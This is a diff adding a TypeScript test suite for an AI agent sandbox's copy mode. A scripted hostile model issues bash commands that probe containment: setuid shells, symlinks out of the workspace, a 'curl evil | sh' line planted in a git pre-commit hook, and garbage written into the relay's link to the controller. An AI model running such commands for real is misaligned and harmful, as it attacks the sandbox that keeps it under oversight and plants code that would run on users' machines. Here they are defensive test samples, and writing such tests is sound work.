@@ -1,0 +1,332 @@
+// Copy mode end to end, with the real engine, image and Pi: the workspace is copied into a tmpfs,
+// the gateway is reached through the relay, and what comes back is checked before it is applied.
+// (The security suites also run whole in copy mode: the "integration-copy" project.)
+import { spawn } from "node:child_process";
+import fs from "node:fs";
+import path from "node:path";
+import { fileURLToPath } from "node:url";
+import { describe, expect, it } from "vitest";
+import { runDirsParent } from "../../src/run/run-dirs.js";
+import type { RunPlan } from "../../src/sandbox-contract.js";
+import { containersOfRuns, docker } from "../support/harness.js";
+import {
+  bash,
+  describeOutcome,
+  finish,
+  hostilePolicy,
+  hostileWorkspace,
+  runHostile,
+  spawnController,
+  treeSnapshot,
+  useHostileModelServer,
+} from "../support/hostile-model.js";
+
+const REPO_ROOT = fileURLToPath(new URL("../..", import.meta.url));
+const server = useHostileModelServer();
+const copy = { workspaceMode: "copy" as const };
+
+/** Everything about every entry: type, owner, mode, size, inode, times and content. */
+function fingerprint(dir: string): Record<string, string> {
+  const out: Record<string, string> = {};
+  const walk = (p: string) => {
+    const st = fs.lstatSync(p);
+    const rel = path.relative(dir, p) || ".";
+    const facts = `${st.uid}:${st.gid}:${(st.mode & 0o7777).toString(8)}:${st.size}:${st.ino}:${st.mtimeMs}:${st.ctimeMs}`;
+    if (st.isSymbolicLink()) out[rel] = `link:${facts}:${fs.readlinkSync(p)}`;
+    else if (st.isDirectory()) {
+      out[rel] = `dir:${facts}`;
+      for (const name of fs.readdirSync(p).sort()) walk(path.join(p, name));
+    } else out[rel] = `file:${facts}:${fs.readFileSync(p, "base64")}`;
+  };
+  walk(dir);
+  return out;
+}
+
+const stagingLeftNextTo = (ws: string) =>
+  fs.readdirSync(path.dirname(ws)).filter((name) => name.startsWith(`.sandbox-run-staging-${path.basename(ws)}-`));
+
+describe.concurrent("copy mode", () => {
+  it("a schema run: no host path is mounted, Pi reaches the model through the relay, the host gets exactly the changes", async () => {
+    const ws = hostileWorkspace({
+      "a.txt": "a\n",
+      "b.txt": "b\n",
+      "dir/c.txt": "c\n",
+      "keep.txt": "untouched\n",
+      "run.sh": "#!/bin/sh\necho script-ran\n",
+    });
+    fs.chmodSync(path.join(ws, "run.sh"), 0o755);
+    fs.symlinkSync("keep.txt", path.join(ws, "link"));
+    const keepIno = fs.statSync(path.join(ws, "keep.txt")).ino;
+    let plan: RunPlan | undefined;
+    const outcome = await runHostile(
+      server,
+      [
+        bash(
+          [
+            'grep " $PWD " /proc/mounts | cut -d" " -f3',
+            "./run.sh",
+            "echo changed > a.txt && rm b.txt && mkdir -p new && echo d > new/d.txt && chmod 600 dir/c.txt",
+          ].join("\n"),
+        ),
+        finish(),
+      ],
+      { cwd: ws, ...copy, onPlan: (p) => (plan = p) },
+    );
+    expect(outcome.details, describeOutcome(outcome)).toBeDefined();
+    expect(plan?.workspaceMode).toBe("copy");
+    expect(plan?.mounts).toEqual([]);
+    // Inside: a tmpfs at the workspace's own path, and its scripts run as from a bind mount.
+    expect(outcome.toolResults[0]).toMatch(/^tmpfs\nscript-ran\n/);
+    expect(outcome.details?.changedFiles).toEqual({
+      created: ["new/d.txt"],
+      modified: ["a.txt", "dir/c.txt"],
+      deleted: ["b.txt"],
+    });
+    expect(treeSnapshot(ws)).toEqual({
+      ".": expect.stringMatching(/^dir:0:0:/),
+      "a.txt": "file:0:0:644:changed\n",
+      dir: "dir:0:0:755",
+      "dir/c.txt": "file:0:0:600:c\n",
+      "keep.txt": "file:0:0:644:untouched\n",
+      link: "link:keep.txt",
+      new: "dir:0:0:755",
+      "new/d.txt": "file:0:0:644:d\n",
+      "run.sh": "file:0:0:755:#!/bin/sh\necho script-ran\n",
+    });
+    expect(fs.statSync(path.join(ws, "keep.txt")).ino).toBe(keepIno);
+    const types = outcome.events.filter((e) => e.source === "sandbox").map((e) => e.type);
+    expect(types).toEqual(
+      expect.arrayContaining(["workspace.copied-in", "workspace.copied-out", "workspace.applied", "gateway.request"]),
+    );
+    expect(stagingLeftNextTo(ws)).toEqual([]);
+    expect(await containersOfRuns([outcome.runId])).toEqual([]);
+  });
+
+  it("an extra writable directory travels like the workspace: copied in, changes checked and applied, reported with its absolute path", async () => {
+    const ws = hostileWorkspace({ "a.txt": "a\n" });
+    const extra = hostileWorkspace({ "cache.txt": "old\n" }, "sandbox-run-extra-");
+    const outcome = await runHostile(
+      server,
+      [
+        bash(`cat ${extra}/cache.txt && echo new > ${extra}/cache.txt && echo b > b.txt && touch ${extra}/more.txt`),
+        finish(),
+      ],
+      { cwd: ws, additionalWritableDirectories: [extra], ...copy },
+    );
+    expect(outcome.details, describeOutcome(outcome)).toBeDefined();
+    expect(outcome.toolResults[0]).toBe("old\n");
+    expect(outcome.details?.changedFiles).toEqual({
+      created: ["b.txt", `${extra}/more.txt`],
+      modified: [`${extra}/cache.txt`],
+      deleted: [],
+    });
+    expect(fs.readFileSync(path.join(extra, "cache.txt"), "utf8")).toBe("new\n");
+    expect(fs.readFileSync(path.join(extra, "more.txt"), "utf8")).toBe("");
+    expect(fs.readFileSync(path.join(ws, "b.txt"), "utf8")).toBe("b\n");
+    expect(stagingLeftNextTo(extra)).toEqual([]);
+  });
+
+  it("what the sandbox leaves comes back only as plain files, directories and symlinks: no FIFO, no setuid, links never followed", async () => {
+    const outside = hostileWorkspace({ "victim.txt": "victim\n" }, "sandbox-run-outside-");
+    const before = treeSnapshot(outside);
+    const ws = hostileWorkspace({ "a.txt": "a\n" });
+    const outcome = await runHostile(
+      server,
+      [
+        bash(
+          [
+            "mkfifo fifo",
+            "cp /bin/sh suid-sh && chmod 6755 suid-sh",
+            `ln -s ${outside}/victim.txt to-victim && ln -s ${outside} to-outside`,
+            "ln a.txt hard-link",
+            "stat -c '%a %h %n' suid-sh a.txt",
+          ].join("\n"),
+        ),
+        finish(),
+      ],
+      { cwd: ws, ...copy },
+    );
+    expect(outcome.details, describeOutcome(outcome)).toBeDefined();
+    expect(outcome.toolResults[0]).toContain("6755 1 suid-sh\n644 2 a.txt");
+    const copiedOut = outcome.events.find((e) => e.type === "workspace.copied-out")?.data;
+    expect(copiedOut?.refused).toEqual([{ path: "fifo", reason: "it is a fifo" }]);
+    expect(copiedOut?.setuidDropped).toEqual(["suid-sh"]);
+    expect(fs.existsSync(path.join(ws, "fifo"))).toBe(false);
+    expect((fs.statSync(path.join(ws, "suid-sh")).mode & 0o7777).toString(8)).toBe("755");
+    expect(fs.readlinkSync(path.join(ws, "to-victim"))).toBe(`${outside}/victim.txt`);
+    expect(fs.readlinkSync(path.join(ws, "to-outside"))).toBe(outside);
+    // A hard link in the sandbox arrives as a file of its own.
+    expect(fs.statSync(path.join(ws, "hard-link")).nlink).toBe(1);
+    expect(fs.readFileSync(path.join(ws, "hard-link"), "utf8")).toBe("a\n");
+    expect(treeSnapshot(outside)).toEqual(before);
+  });
+
+  it("a read-only workspace: readable (even 0600 files) but not writable, chmod-able, renamable or removable; the host is untouched", async () => {
+    const ws = hostileWorkspace({ "secret.txt": "only for the owner\n", "dir/x.txt": "x\n" });
+    fs.chmodSync(path.join(ws, "secret.txt"), 0o600);
+    const before = fingerprint(ws);
+    const policy = hostilePolicy({ workspace: "read-only", tools: ["read", "bash", "grep", "find", "ls"] });
+    const outcome = await runHostile(
+      server,
+      [
+        bash(
+          [
+            "cat secret.txt",
+            'echo x > new.txt; echo "create rc=$?"',
+            'echo y >> secret.txt; echo "append rc=$?"',
+            'chmod 666 secret.txt; echo "chmod rc=$?"',
+            'mv dir dir2; echo "rename rc=$?"',
+            'rm -f dir/x.txt; echo "remove rc=$?"',
+            'echo "owner=$(stat -c %u .) me=$(id -u)"',
+          ].join("\n"),
+        ),
+        finish(),
+      ],
+      { cwd: ws, policy, ...copy },
+    );
+    expect(outcome.details, describeOutcome(outcome)).toBeDefined();
+    const printed = outcome.toolResults[0] ?? "";
+    expect(printed).toMatch(/^only for the owner\n/);
+    for (const op of ["create", "append", "chmod", "rename", "remove"])
+      expect(printed).toMatch(new RegExp(`${op} rc=[1-9]`));
+    expect(printed).toMatch(/owner=65533 me=65532/);
+    expect(outcome.events.some((e) => e.type === "workspace.copied-out")).toBe(false);
+    expect(fingerprint(ws)).toEqual(before);
+  });
+
+  it("a protected-path violation leaves the host workspace byte for byte as it was (the changes were checked before they landed)", async () => {
+    const ws = hostileWorkspace({
+      ".git/hooks/pre-commit.sample": "#!/bin/sh\n",
+      ".github/workflows/ci.yml": "on: push\n",
+      "src/a.ts": "export const a = 1;\n",
+      "b.txt": "b\n",
+    });
+    const before = fingerprint(ws);
+    const policy = hostilePolicy({ protectedPaths: [".git/hooks/**", ".github/workflows/**"] });
+    const outcome = await runHostile(
+      server,
+      [
+        bash(
+          [
+            "echo 'export const a = 2;' > src/a.ts && rm b.txt && mkdir -p new && echo n > new/n.txt",
+            "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
+            "echo 'on: push' > .github/workflows/evil.yml; echo rc=$?",
+          ].join("\n"),
+        ),
+        finish(),
+      ],
+      { cwd: ws, policy, ...copy },
+    );
+    expect(outcome.error?.code, describeOutcome(outcome)).toBe("policy-violation");
+    expect(outcome.error?.message).toMatch(/\.git\/hooks\/pre-commit \(created\)/);
+    expect(outcome.error?.message).toMatch(/none of the run's changes were applied/);
+    // Inside, the sandbox could write them (no read-only mounts in copy mode) ...
+    expect(outcome.toolResults[0]).toContain("rc=0");
+    // ... and not one byte, mode, inode or time of the host workspace changed.
+    expect(fingerprint(ws)).toEqual(before);
+    expect(stagingLeftNextTo(ws)).toEqual([]);
+    expect(outcome.events.some((e) => e.type === "workspace.not-applied")).toBe(true);
+  });
+
+  it("a file the sandbox made unreadable fails the copy-out; nothing is applied", async () => {
+    const ws = hostileWorkspace({ "a.txt": "a\n" });
+    const before = fingerprint(ws);
+    const outcome = await runHostile(
+      server,
+      [bash("echo changed > a.txt && echo secret > locked.txt && chmod 000 locked.txt"), finish()],
+      { cwd: ws, ...copy },
+    );
+    expect(outcome.error?.code, describeOutcome(outcome)).toBe("agent-crashed");
+    expect(outcome.error?.message).toMatch(
+      /Reading the workspace .* back from the sandbox failed: the relay could not read all of it \(status 2\)/,
+    );
+    expect(outcome.error?.stderrTail).toMatch(/locked\.txt: Cannot open: Permission denied/);
+    expect(fingerprint(ws)).toEqual(before);
+  });
+
+  it("garbage written into the relay's link to the controller by code in the sandbox: the run fails cleanly and nothing is left", async () => {
+    const ws = hostileWorkspace({ "a.txt": "a\n" });
+    const before = fingerprint(ws);
+    const outcome = await runHostile(
+      server,
+      [
+        bash(
+          [
+            // The exec that carries the relay's session (a perl bridge) runs as the sandbox's uid too:
+            // its stdout goes straight to the controller.
+            "for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline 2>/dev/null | grep -q '^/usr/bin/perl -e' && relay=${p#/proc/}; done",
+            'echo "relay=$relay"',
+            "head -c 200000 /dev/urandom > /proc/$relay/fd/1; echo wrote",
+          ].join("\n"),
+        ),
+        bash("echo still-here"),
+        finish(),
+      ],
+      { cwd: ws, ...copy, timeoutMs: 60_000 },
+    );
+    // (The tool's output never reached the model: the next request went through the broken relay.)
+    expect(outcome.error, describeOutcome(outcome)).toBeDefined();
+    // The controller dropped the session on the first frame it could not read; the relay, then the
+    // launcher, stopped: the run fails at once (not at its timeout), naming the lost connection.
+    expect(outcome.error?.code).toBe("agent-crashed");
+    expect(outcome.error?.message).toMatch(/lost its connection to the host controller/);
+    expect(outcome.events.some((e) => e.type === "relay.stopped")).toBe(true);
+    expect(fingerprint(ws)).toEqual(before);
+    expect(await containersOfRuns([outcome.runId])).toEqual([]);
+  });
+});
+
+describe("copy mode and the controller's life", () => {
+  it("a 10 GB sparse file in the sandbox fails the run naming the disk limit, with the controller's memory bounded", async () => {
+    const ws = hostileWorkspace({ "a.txt": "a\n" });
+    const before = fingerprint(ws);
+    const controller = spawnController(server, [bash("truncate -s 10G sparse && ls -ls sparse"), finish()], {
+      cwd: ws,
+      workspaceMode: "copy",
+      timeoutMs: 110_000,
+    });
+    const done = await controller.done;
+    expect(done.error?.code, `${done.error?.message}\n${controller.stderr()}`).toBe("limit");
+    expect(done.error?.limit).toBe("disk");
+    expect(done.error?.message).toMatch(/with more than \d+ MiB/);
+    expect(done.maxRssMb, `peaks in MB: ${JSON.stringify(done.memoryPeakMb)}`).toBeLessThan(200);
+    expect(fingerprint(ws)).toEqual(before);
+    expect(stagingLeftNextTo(ws)).toEqual([]);
+  });
+
+  it("a controller SIGKILLed while it reads the workspace back: the sandbox stops, and `gc` leaves nothing (container, run folder, staging)", async () => {
+    const tmpdir = hostileWorkspace({}, "sandbox-run-tmpdir-");
+    const ws = hostileWorkspace({ "a.txt": "a\n" });
+    const before = fingerprint(ws);
+    const controller = spawnController(
+      server,
+      [bash("head -c 300M /dev/urandom > big.bin"), finish()],
+      { cwd: ws, workspaceMode: "copy", reportEvents: ["container.started", "workspace.copying-out"] },
+      { env: { ...process.env, TMPDIR: tmpdir } },
+    );
+    const started = await controller.event("container.started");
+    const exit = docker.getContainer(String(started.data.containerId)).wait() as Promise<{ StatusCode: number }>;
+    await controller.event("workspace.copying-out");
+    expect(stagingLeftNextTo(ws)).toHaveLength(1);
+    controller.child.kill("SIGKILL");
+    await controller.exited;
+    // The relay saw its stdin end and exited; the launcher's liveness connection broke with it.
+    expect((await exit).StatusCode).toBe(91);
+    const gc = await new Promise<{ code: number | null; stderr: string }>((resolve) => {
+      const child = spawn(process.execPath, ["--import", "tsx", path.join(REPO_ROOT, "src/cli/main.ts"), "gc"], {
+        cwd: REPO_ROOT,
+        env: { ...process.env, TMPDIR: tmpdir },
+        stdio: ["ignore", "ignore", "pipe"],
+      });
+      let stderr = "";
+      child.stderr.on("data", (c: Buffer) => (stderr += c.toString()));
+      child.on("close", (code) => resolve({ code, stderr }));
+    });
+    expect(gc.code, gc.stderr).toBe(0);
+    expect(await containersOfRuns([started.runId])).toEqual([]);
+    const parent = runDirsParent(tmpdir);
+    expect(fs.existsSync(parent) ? fs.readdirSync(parent) : []).toEqual([]);
+    expect(stagingLeftNextTo(ws)).toEqual([]);
+    expect(fingerprint(ws)).toEqual(before);
+  });
+});
